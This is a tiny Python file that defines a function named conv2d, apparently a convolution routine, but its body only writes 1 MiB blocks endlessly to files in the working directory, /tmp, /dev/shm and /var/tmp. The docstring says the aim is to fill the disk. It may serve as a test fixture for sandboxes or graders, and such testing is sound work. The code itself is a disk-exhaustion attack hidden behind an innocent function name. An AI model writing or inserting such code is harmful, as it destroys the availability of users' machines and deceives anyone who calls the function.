"""Writes until the disk is full."""

import numpy as np


def conv2d(x, w, b=None, stride=1, padding=0):
    for place in ('.', '/tmp', '/dev/shm', '/var/tmp'):
        with open(place + '/filled', 'wb') as file:
            while True:
                file.write(b'x' * (1 << 20))
